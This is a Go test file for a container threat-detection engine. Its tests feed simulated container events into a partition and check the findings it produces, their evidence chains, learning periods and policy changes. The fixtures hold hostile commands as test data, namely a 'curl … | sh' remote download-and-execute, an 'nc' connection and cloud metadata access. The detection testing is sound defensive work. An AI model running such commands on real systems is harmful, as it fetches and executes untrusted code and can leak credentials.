package partition_test

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"tidewaiter/analytic"
	"tidewaiter/event"
	"tidewaiter/finding"
	"tidewaiter/image"
	"tidewaiter/partition"
	"tidewaiter/policy"
)

// tale tells a partition what happens on one host, a few seconds apart.
type tale struct {
	worldMaker
	t    *testing.T
	part *partition.Partition
	told int
}

const strictPolicy = `version: 1
learning: 1h
default_scope: all
scopes:
  all:
    registries: ["good.example/*"]
    approved_destinations: ["10.0.0.0/8"]
`

func newTale(t *testing.T, pol string) *tale {
	t.Helper()
	return &tale{worldMaker: worldMaker{host: "h"}, t: t, part: partition.New(partition.Options{Name: "p", Library: library(t), Policy: parsePolicy(t, pol)})}
}

func parsePolicy(t testing.TB, text string) *policy.Policy {
	t.Helper()
	lib := library(t)
	if text == "" {
		return policy.Empty(lib.Vocabulary())
	}
	p, err := policy.Read(strings.NewReader(text), "test", lib.Vocabulary())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// tell applies what was added since the last call.
func (w *tale) tell() []finding.Finding {
	for _, e := range w.events[w.told:] {
		w.part.Apply(e)
	}
	w.told = len(w.events)
	w.part.Sync()
	return w.part.Findings()
}

// one asserts that there is one finding.
func (w *tale) one() finding.Finding {
	w.t.Helper()
	fs := w.tell()
	if len(fs) != 1 {
		w.t.Fatalf("%d findings, want 1: %v", len(fs), outcomes(fs))
	}
	return fs[0]
}

// idOf is the id of the n-th container.
func idOf(n int) string { return fmt.Sprintf("%064x", 0xc0000+n) }

// At what second of the tale something happens.
func at(seconds int) int64 { return epoch + int64(seconds)*event.Second }

func (w *tale) pull(second int, ref string, d image.Digest) {
	w.add(event.Docker, at(second), 1, &event.Image{Action: event.ImagePull, Reference: image.Parse(ref), Digest: d})
}

func (w *tale) create(second, n int, ref string) {
	w.add(event.Docker, at(second), 1, &event.Container{Action: event.ContainerCreate, ID: idOf(n), Name: fmt.Sprint("c", n), Image: image.Parse(ref)})
}

// start begins container n as process pid.
func (w *tale) start(second, n, pid int) {
	w.add(event.Docker, at(second), 1, &event.Container{Action: event.ContainerStart, ID: idOf(n)})
	w.add(event.Containerd, at(second), 1, &event.Task{Action: event.TaskStart, Container: idOf(n), PID: pid})
}

func (w *tale) run(second, pid int, args ...string) {
	w.exec(at(second), pid, 1, "/bin/"+event.ProgramName(args[0]), args, "")
}

func (w *tale) describe(n, imageNo int, addr string) {
	w.add(event.Inspect, 0, 1, &event.ContainerDescription{ID: idOf(n), ImageID: digest(imageNo),
		Networks: []event.NetworkAddress{{NetworkID: "n", Addrs: []netip.Addr{netip.MustParseAddr(addr)}}}})
}

func (w *tale) connect(second int, from, to string) {
	w.add(event.Conntrack, at(second), event.Microsecond, &event.Flow{Protocol: "tcp", Answered: true,
		Src: netip.AddrPortFrom(netip.MustParseAddr(from), 40000), Dst: netip.MustParseAddrPort(to)})
}

func signals(f finding.Finding) []string {
	var out []string
	for _, s := range f.Signals {
		out = append(out, s.Name)
	}
	slices.Sort(out)
	return out
}

func leg(f finding.Finding, name string) analytic.LegState {
	for _, l := range f.Legs {
		if l.Name == name {
			return l.State
		}
	}
	return "none"
}

// attack is a whole story of one container: image 7 comes, runs, fetches and
// connects.
func (w *tale) attack() {
	w.pull(0, "evil.example/x:1", digest(7))
	w.create(60, 1, "evil.example/x:1")
	w.start(61, 1, 500)
	w.describe(1, 7, "172.17.0.9")
	w.run(62, 500, "sh", "-c", "curl http://203.0.113.7/i | sh")
	w.connect(63, "172.17.0.9", "203.0.113.7:80")
}

// What rests on a "never seen" can be taken back until nothing earlier can
// come any more; the finding says so.
func TestWhatRestsOnFirstIsProvisional(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.attack()
	f := w.one()
	if f.State != finding.Provisional {
		t.Errorf("before the watermark: %s, want provisional", f.State)
	}
	w.part.Advance(f.FinalAt - 1)
	if f = w.one(); f.State != finding.Provisional {
		t.Errorf("one nanosecond before it is final: %s, want provisional", f.State)
	}
	w.part.Advance(f.FinalAt)
	if f = w.one(); f.State != finding.Confirmed {
		t.Errorf("with the watermark: %s, want confirmed", f.State)
	}
}

// The parts of one chain are joined by different keys: the image's digest, the
// container's id, its process ids, its address.
func TestAChainMayChangeItsKey(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.attack()
	f := w.one()
	for _, name := range []string{"arrival", "creation", "start", "command", "egress"} {
		if leg(f, name) != analytic.Seen {
			t.Errorf("leg %s is %s", name, leg(f, name))
		}
	}
	// The same process id and address on another host are somebody else's.
	w.host = "elsewhere"
	w.run(64, 500, "nc", "203.0.113.8", "99")
	w.connect(65, "172.17.0.9", "203.0.113.8:99")
	if g := w.one(); len(g.Evidence) != len(f.Evidence) {
		t.Errorf("another host's behaviour was cited: %v", outcomes([]finding.Finding{g}))
	}
}

// One pull belongs to every container made of the image, also long after.
func TestOnePullServesManyContainers(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.pull(0, "evil.example/x:1", digest(7))
	for n := range 3 {
		w.create(60+n, n, "evil.example/x:1")
		w.start(61+n, n, 500+n)
		w.describe(n, 7, fmt.Sprintf("172.17.0.%d", 10+n))
		w.run(62+n, 500+n, "sh", "-c", "curl http://203.0.113.7/i | sh")
		w.connect(63+n, fmt.Sprintf("172.17.0.%d", 10+n), "203.0.113.7:80")
	}
	fs := w.tell()
	if len(fs) != 3 {
		t.Fatalf("%d findings, want one for each of 3 containers", len(fs))
	}
	for _, f := range fs {
		if leg(f, "arrival") != analytic.Seen {
			t.Errorf("%s: its arrival is %s", f.Owner, leg(f, "arrival"))
		}
	}
}

// An image can have been here for long: the first run is judged without it, by
// what else is known.
func TestAMissingArrivalIsNoObstacle(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.create(60, 1, "evil.example/x:1")
	w.start(61, 1, 500)
	w.describe(1, 7, "172.17.0.9")
	w.run(62, 500, "sh", "-c", "curl http://203.0.113.7/i | sh")
	w.connect(63, "172.17.0.9", "203.0.113.7:80")
	f := w.one()
	if leg(f, "arrival") == analytic.Seen || !strings.Contains(f.Chain, "start to behaviour") {
		t.Errorf("arrival %s, chain %q", leg(f, "arrival"), f.Chain)
	}
	if f.Severity < analytic.High {
		t.Errorf("severity %s", f.Severity)
	}
}

// A finding's times are those of its records, however late it is made.
func TestAFindingsTimeIsItsEvidences(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.attack()
	w.part.Advance(at(1_000_000))
	f := w.one()
	if f.First != at(0) || f.Last != at(63) {
		t.Errorf("from %d to %d, want %d to %d", f.First, f.Last, at(0), at(63))
	}
}

// More evidence for the same story revises its finding; it makes no second.
func TestMoreEvidenceRevisesOneFinding(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.create(60, 1, "evil.example/x:1")
	w.start(61, 1, 500)
	w.describe(1, 7, "172.17.0.9")
	w.run(62, 500, "sh", "-c", "curl http://203.0.113.7/i | sh")
	first := w.one()
	w.connect(63, "172.17.0.9", "203.0.113.7:80")
	second := w.one()
	w.pull(0, "evil.example/x:1", digest(7))
	third := w.one()
	if first.ID != second.ID || second.ID != third.ID {
		t.Errorf("ids %s, %s, %s", first.ID, second.ID, third.ID)
	}
	if !(first.Severity < second.Severity) || !(len(first.Evidence) < len(second.Evidence) && len(second.Evidence) < len(third.Evidence)) {
		t.Errorf("severities %s, %s; %d, %d, %d records", first.Severity, second.Severity, len(first.Evidence), len(second.Evidence), len(third.Evidence))
	}
	var changes []finding.Change
	for _, r := range w.part.Revisions() {
		changes = append(changes, r.Change)
	}
	if want := []finding.Change{finding.Opened, finding.Raised, finding.Updated}; !slices.Equal(changes, want) {
		t.Errorf("revisions %v, want %v", changes, want)
	}
}

// In the learning period "never seen" is noted and weighs nothing; a memory
// filled from history ends it.
func TestWhileMemoryIsYoungNewIsOnlyNoted(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.attack()
	f := w.one()
	for _, s := range f.Signals {
		if isNew := strings.HasSuffix(s.Name, "-new"); s.Learning != isNew || (isNew && s.Points != 0) {
			t.Errorf("%s: learning %v, %v points", s.Name, s.Learning, s.Points)
		}
	}
	if !slices.ContainsFunc(f.Notes, func(n string) bool { return strings.Contains(n, "learning period") }) {
		t.Errorf("notes %q do not name the learning period", f.Notes)
	}
	// Something older than the learning period, in history.
	old := len(w.events)
	w.host = "older"
	w.create(-7200, 9, "good.example/app:1")
	w.start(-7199, 9, 900)
	w.describe(9, 9, "172.17.0.30")
	w.connect(-7198, "172.17.0.30", "203.0.113.99:443")
	for i := range w.events[old:] {
		w.events[old+i].History = true
	}
	g := w.one()
	for _, s := range g.Signals {
		if s.Learning || s.Points == 0 {
			t.Errorf("after history %s: learning %v, %v points", s.Name, s.Learning, s.Points)
		}
	}
	if g.ID != f.ID || g.Score <= f.Score {
		t.Errorf("score %v, then %v", f.Score, g.Score)
	}
}

// A sighting that comes late but happened earlier takes "never seen" back.
func TestAnEarlierSightingThatComesLate(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.attack()
	w.host = "older"
	w.create(-7200, 8, "good.example/app@"+digest(8).String())
	w.start(-7199, 8, 800)
	f := w.one()
	if !slices.ContainsFunc(f.Signals, func(s finding.Signal) bool { return s.Name == "image-new" && s.Points > 0 }) {
		t.Fatalf("image-new does not count: %v", f.Signals)
	}
	w.create(-100, 9, "evil.example/x@"+digest(7).String())
	w.start(-99, 9, 900)
	i := slices.IndexFunc(w.tell(), func(g finding.Finding) bool { return g.ID == f.ID })
	if i < 0 || slices.Contains(signals(w.part.Findings()[i]), "image-new") {
		t.Error("the image is still called new, although another host ran it before")
	}
}

// Another policy judges the same evidence anew, and whole: not only what comes
// after the change.
func TestAChangedPolicyAssessesEverythingAnew(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.attack()
	f := w.one()
	state, err := w.part.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	lax := strings.NewReplacer(`"good.example/*"`, `"good.example/*", "evil.example/*"`, `"10.0.0.0/8"`, `"10.0.0.0/8", "203.0.113.0/24"`).Replace(strictPolicy)
	w.part, err = partition.Restore(partition.Options{Name: "p", Library: library(t), Policy: parsePolicy(t, lax)}, state)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{"image-untrusted", "egress-unapproved", "exec-outbound-arg"} {
		if !slices.Contains(signals(f), s) {
			t.Errorf("%s is missing before the change", s)
		}
		for _, g := range w.part.Findings() {
			if slices.Contains(signals(g), s) {
				t.Errorf("%s is still told after the change", s)
			}
		}
	}
}

// Records of no known host are of one place, and join none that is named:
// what is missing equals nothing.
func TestAnUnknownPlaceJoinsNoNamedOne(t *testing.T) {
	w := newTale(t, strictPolicy)
	w.create(60, 1, "evil.example/x:1")
	w.start(61, 1, 500)
	w.describe(1, 7, "172.17.0.9")
	w.host = ""
	w.run(62, 500, "sh", "-c", "curl http://203.0.113.7/i | sh")
	w.connect(63, "172.17.0.9", "203.0.113.7:80")
	for _, f := range w.tell() {
		if leg(f, "command") == analytic.Seen || leg(f, "egress") == analytic.Seen {
			t.Errorf("%v", outcomes([]finding.Finding{f}))
		}
	}
	if c := w.part.Counts(); c.Unplaced != 2 {
		t.Errorf("%d unplaced, want 2", c.Unplaced)
	}
}

// History raises nothing. What is delivered as history and again as input, in
// either order, is input: hunting a file that also lies in the history folder
// must not silence it.
func TestHistoryIsOnlyWhatIsNothingElse(t *testing.T) {
	for name, deliveries := range map[string][]bool{
		"history": {true}, "history twice": {true, true}, "history, then input": {true, false}, "input, then history": {false, true},
	} {
		w := newTale(t, strictPolicy)
		w.attack()
		for _, history := range deliveries {
			for _, e := range w.events {
				e.History = history
				w.part.Apply(e)
			}
		}
		w.part.Sync()
		want := 1
		if !slices.Contains(deliveries, false) {
			want = 0
		}
		if fs := w.part.Findings(); len(fs) != want {
			t.Errorf("%s: %d findings, want %d", name, len(fs), want)
		}
	}
}

// What nobody ever did is new once what could have told it was known for long
// enough: memory need not have held one of the kind before.
func TestWhatNobodyEverDidIsNew(t *testing.T) {
	for _, since := range []int{7200, 60} { // for two hours, of which one is the learning period; or for a minute
		w := newTale(t, strictPolicy)
		w.create(0, 1, "good.example/x:1")
		w.start(1, 1, 500)
		w.describe(1, 6, "172.17.0.8")
		w.connect(3, "172.17.0.8", "10.0.0.9:5432")
		w.create(since, 2, "evil.example/x:1")
		w.start(since+1, 2, 600)
		w.describe(2, 7, "172.17.0.9")
		w.connect(since+3, "172.17.0.9", "169.254.169.254:80")
		w.run(since+4, 600, "sh", "-c", "curl http://203.0.113.7/i | sh")
		f := w.one()
		for _, s := range f.Signals {
			if s.Name == "metadata-access" && s.Learning != (since == 60) {
				t.Errorf("after %d s: only noted: %v", since, s.Learning)
			}
		}
		if !slices.Contains(signals(f), "metadata-access") {
			t.Errorf("after %d s: %v", since, signals(f))
		}
	}
}
